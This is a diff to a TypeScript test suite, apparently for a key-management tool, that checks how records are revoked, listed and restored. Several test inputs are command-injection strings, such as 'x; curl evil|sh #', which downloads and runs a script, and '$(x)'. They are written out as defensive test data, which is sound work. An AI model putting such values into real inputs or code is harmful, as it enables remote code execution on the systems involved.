@@ -244,8 +244,6 @@ test.each<[title: string, change: object, name?: string, error?: string]>([
   ['an id for a shell', { id: 'x; curl evil|sh #' }],
   ['an id that is an option', { id: '--yes' }],
   ['an id of 65 characters', { id: 'x'.repeat(65) }],
-  ['a family for a shell', { family: '$(x)' }],
-  ['a successor for a shell', { rotatedTo: '$(x)' }],
   ['a name for a shell', {}, "key:x'; curl evil|sh #\u001b", ODD_NAME],
 ])(
   'a record with %s fails each command, and other keys are revoked all the same',
@@ -267,6 +265,22 @@ test('a planted record that is too large for the metadata is revoked, and backup
   const warning = 'Backups leave this record out, because it has over 1,024 bytes.\n';
   expect([code, stderr]).toEqual([0, warning]);
   expect(fake.records()).toEqual([{ ...planted, revokedAt: NOW }]);
+});
+
+test('a planted twin, which the worker accepts whatever its family and successor are, is revoked', async () => {
+  const twin = { ...ANNA, family: '$(x)', rotatedTo: 5 };
+  fake.put(ANNA);
+  fake.put(twin, nameOf('planted'));
+  await fake.run('revoke key_anna');
+  expect(fake.records().map(({ revokedAt }) => revokedAt)).toEqual([NOW, NOW]);
+});
+
+test('a list names a key that a restore would make active again', async () => {
+  fake.put(REVOKED);
+  fake.metadata.set(nameOf('key_anna'), ANNA);
+  const { code, stderr } = await fake.run('list');
+  const problem = `error: key_anna (Anna): a restore would write other metadata of ${nameOf('key_anna')}\n`;
+  expect([code, stderr]).toEqual([1, expect.stringContaining(problem)]);
 });
 
 test('an id that several records have is revoked in all, and not rotated', async () => {
